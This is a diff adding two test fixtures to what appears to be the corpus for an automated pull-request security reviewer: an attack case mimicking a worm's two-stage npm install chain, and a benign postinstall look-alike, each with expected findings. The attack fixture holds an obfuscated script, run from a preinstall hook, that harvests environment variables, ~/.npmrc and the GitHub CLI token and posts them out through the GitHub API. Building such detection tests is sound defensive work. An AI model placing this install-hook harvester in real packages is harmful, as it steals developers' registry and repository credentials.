@@ -4,7 +4,7 @@
  * descriptions; no third-party file is copied.
  */
 import type { CorpusEntry } from '../helpers.js';
-import { lines } from '../helpers.js';
+import { lines, packageJson } from '../helpers.js';
 import { codePr as attackPr } from './code.js';
 import { ciWorkflow } from './ci.js';
 
@@ -3257,6 +3257,79 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['github-persistence'] },
+  },
+  {
+    id: 'attack-shai-hulud2-second-hop-harvester',
+    description:
+      'Shai-Hulud 2.0 (November 2025), the two-hop install chain: a "use Bun for faster installs" PR adds `preinstall: node setup_bun.js`; setup_bun.js installs Bun from the registry when it is missing (nothing it does is a download by itself) and starts dist/bun_environment.js detached, an obfuscated file in a build-output folder that takes the environment, ~/.npmrc and the GitHub CLI token and posts them to a repository it creates.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11010,
+        title: 'chore: use bun for faster installs',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run' } }), head: packageJson({ name: 'tinted', version: '4.2.1', scripts: { test: 'vitest run', preinstall: 'node setup_bun.js' } }) },
+          {
+            path: 'setup_bun.js',
+            head: lines(
+              "const { spawn, spawnSync } = require('child_process');",
+              "const path = require('path');",
+              '',
+              "const found = spawnSync('bun', ['--version'], { stdio: 'ignore' }).status === 0;",
+              "if (!found) spawnSync('npm', ['install', '-g', 'bun'], { stdio: 'ignore' });",
+              "spawn('bun', [path.join(__dirname, 'dist', 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();",
+            ),
+          },
+          {
+            path: 'dist/bun_environment.js',
+            head: lines(
+              "const _0x4a1f=['cG9zdA==','dG9rZW4='];(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a1f,0x1b3));",
+              "const _0x1c=require('fs'),_0x2d=require('os'),_0x3e=require('child_process');",
+              "const _0x5e={env:process.env,npmrc:_0x1c.readFileSync(_0x2d.homedir()+'/.npmrc','utf8')};try{_0x5e.gh=_0x3e.execSync('gh auth token').toString().trim();}catch(_0x6f){}",
+              "fetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+(process.env.GITHUB_TOKEN||_0x5e.gh)},body:JSON.stringify({name:'s1ng',description:'Sha1-Hulud: The Second Coming.',content:Buffer.from(JSON.stringify(_0x5e)).toString('base64')})});",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior', 'obfuscated-code'] },
+  },
+  {
+    id: 'benign-postinstall-starts-copy-prebuilds',
+    description:
+      'The benign look-alike of the two-hop install chain: a maintainer\'s native addon already runs `postinstall: node scripts/postinstall.js`; the PR makes it start a new helper, scripts/copy-prebuilds.js, with the running Node, which copies the prebuilt binary for this platform from prebuilds/ into build/Release and touches no network or credentials.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11011,
+        title: 'Copy the prebuilt binary in its own helper',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }), head: packageJson({ name: 'tinted', version: '4.3.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }) },
+          {
+            path: 'scripts/postinstall.js',
+            base: lines("'use strict';", "const { execSync } = require('child_process');", '', "execSync('node-gyp-build', { stdio: 'inherit' });"),
+            head: lines("'use strict';", "const { execFileSync } = require('child_process');", "const path = require('path');", '', "execFileSync(process.execPath, [path.join(__dirname, 'copy-prebuilds.js')], { stdio: 'inherit' });"),
+          },
+          {
+            path: 'scripts/copy-prebuilds.js',
+            head: lines(
+              "'use strict';",
+              "const fs = require('fs');",
+              "const path = require('path');",
+              '',
+              "const root = path.join(__dirname, '..');",
+              'const from = path.join(root, \'prebuilds\', `${process.platform}-${process.arch}`, \'tinted.node\');',
+              "const to = path.join(root, 'build', 'Release', 'tinted.node');",
+              'if (fs.existsSync(from)) {',
+              '  fs.mkdirSync(path.dirname(to), { recursive: true });',
+              '  fs.copyFileSync(from, to);',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior', 'finding:obfuscated-code'] },
   },
   {
     id: 'attack-runner-provisioning-user-data',
